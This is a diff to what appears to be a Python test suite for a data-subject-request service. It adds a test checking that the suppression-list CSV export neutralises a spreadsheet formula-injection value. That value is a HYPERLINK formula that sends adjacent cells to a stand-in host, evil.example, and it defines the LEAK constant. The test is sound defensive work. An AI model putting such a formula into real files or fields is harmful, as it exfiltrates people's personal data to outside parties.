@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 from collections.abc import Mapping, Sequence
@@ -15,6 +16,7 @@ from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker
 
 from tests.clocks import FrozenClock
 from tests.conftest import STAFF_ID
+from tests.test_cli_frame import aina_dsr
 from workflows.directory import CustomerRecord, import_customers, import_purchases
 from workflows.errors import NotAllowed
 from workflows.fulfilment import (
@@ -155,6 +157,37 @@ async def test_withdrawal_and_unsubscribe_reach_the_suppression_list(
     record = await directory.lookup(customer_id="C-1001")
     assert record is not None
     assert record.marketing_consent is False
+
+
+# The person's own words, as a spreadsheet would run them: the cells beside it leave the office.
+LEAK = '=HYPERLINK("http://evil.example/?leak="&A2&B2,"Open")'
+
+
+async def test_the_suppression_csv_neutralises_a_persons_words_a_spreadsheet_would_run(
+    service: RequestService,
+    fulfilment: Fulfilment,
+    database_url: str,
+    encryption_key: str,
+    tmp_path: Path,
+) -> None:
+    withdraw = await filed(service, "withdraw_consent", full_name="A S", data_concerned=LEAK)
+    await fulfilment.approve(withdraw, DANA)
+    settings = {"DSR_DATABASE_URL": database_url, "DSR_ENCRYPTION_KEY": encryption_key}
+
+    printed = aina_dsr(tmp_path, "directory", "export-suppressions", **settings)
+    assert printed.returncode == 0, printed.stderr
+    out = tmp_path / "suppressions.csv"
+    written = aina_dsr(tmp_path, "directory", "export-suppressions", "-o", str(out), **settings)
+    assert written.returncode == 0, written.stderr
+    assert out.read_text(encoding="utf-8") == printed.stdout
+
+    (row,) = list(csv.DictReader(io.StringIO(printed.stdout)))
+    assert row["processing_scope"] == "'" + LEAK
+    assert row["customer_id"] == "C-1001"
+    assert row["marketing_stopped_at"].startswith("2026-11-24")
+    # JSON is for programs: the words stay as the person wrote them.
+    as_json = aina_dsr(tmp_path, "directory", "export-suppressions", "--format", "json", **settings)
+    assert json.loads(as_json.stdout)[0]["processing_scope"] == LEAK
 
 
 async def test_a_correction_changes_the_directory_and_tells_the_person_what(
